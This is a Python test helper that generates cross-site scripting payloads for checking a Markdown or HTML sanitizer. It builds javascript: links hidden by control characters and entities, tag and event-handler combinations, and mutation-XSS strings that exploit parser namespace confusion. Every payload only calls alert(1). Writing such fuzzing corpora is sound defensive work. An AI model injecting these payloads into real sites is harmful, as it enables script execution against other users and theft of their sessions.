"""What people have tried in order to run a script on a page where others write."""

from __future__ import annotations

from itertools import product
from pathlib import Path

# One on each line, by kind: tags, events, links, drawings, formulas, breaking out of an element or
# attribute, encodings, other alphabets, templates of other systems, Markdown.
WRITTEN = Path(__file__).with_name("xss.txt")

SCHEMES = ("javascript", "vbscript", "data", "blob", "file", "about", "ws", "http+javascript")
# What parsers of addresses have skipped or read as part of the scheme.
FILLERS = (
    *("\t", "\r", "\x00", "\x01", "\x0b", "\x0c", "\x1f", "\x7f", "\x85", "\xa0", "\xad"),
    *("\u1680", "\u180e", "\u2003", "\u200b", "\u200d", "\u2028", "\u2029", "\u3000", "\ufeff"),
    *("&Tab;", "&NewLine;", "&#9", "&#x0A;", "&#0;", "&shy;", "&ZeroWidthSpace;", "%09", "\\"),
)
LINKS = ("[x]({})", "[x](<{}>)", "<{}>", '<a href="{}">x</a>', "[x][y]\n\n[y]: {}", "{}")

OPENINGS = ("<", "< ", "<\x00", "</", "<\ufeff", "\\<", "&lt;", "&#60;", "<!--<", "<![CDATA[<")
TAGS = ("script", "img src=x", "svg", "iframe", "math", "style", "b", "a href=http://a.example/")
EVENTS = ("", " onerror=alert(1)", "/onload=alert(1)", "\fonfocus=alert(1) autofocus tabindex=1")
ENDINGS = (">alert(1)", "/>", "", "\n>alert(1)//")

# Where the words are put, so that Markdown reads them as part of something.
FRAMES = ("{}", "> {}", "- {}", "**{}**", "[{}](http://a.example/)", "`{}`", "a\n\n    {}\n\nb")
MUTANTS = (
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><b id="--&gt;&lt;img onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<table><a><table><a href=javascript:alert(1)>x",
    "<p><a href=http://a.example/><table><tr><td></a><img src=x onerror=alert(1)>",
    "<select><svg><style></select><img src=x onerror=alert(1)>",
    "<xmp><svg><b title='</xmp><img src=x onerror=alert(1)>'>",
)


def attacks() -> list[str]:
    """All of them, each once: those written down, and what comes of combining parts."""
    written = WRITTEN.read_text("utf-8").splitlines()
    return list(dict.fromkeys([*written, *_links(), *_tags(), *_mutants()]))


def _links() -> list[str]:
    addresses = [f"{scheme}:alert(1)" for scheme in SCHEMES]
    # Before the scheme, in it, and between it and the colon.
    for filler, cut in product(FILLERS, (0, 4, 10)):
        scheme = "javascript"
        addresses.append(f"{scheme[:cut]}{filler}{scheme[cut:]}:alert(1)")
    return [link.format(address) for address, link in product(addresses, LINKS)]


def _tags() -> list[str]:
    return ["".join(parts) for parts in product(OPENINGS, TAGS, EVENTS, ENDINGS)]


def _mutants() -> list[str]:
    return [frame.format(mutant) for mutant, frame in product(MUTANTS, FRAMES)]
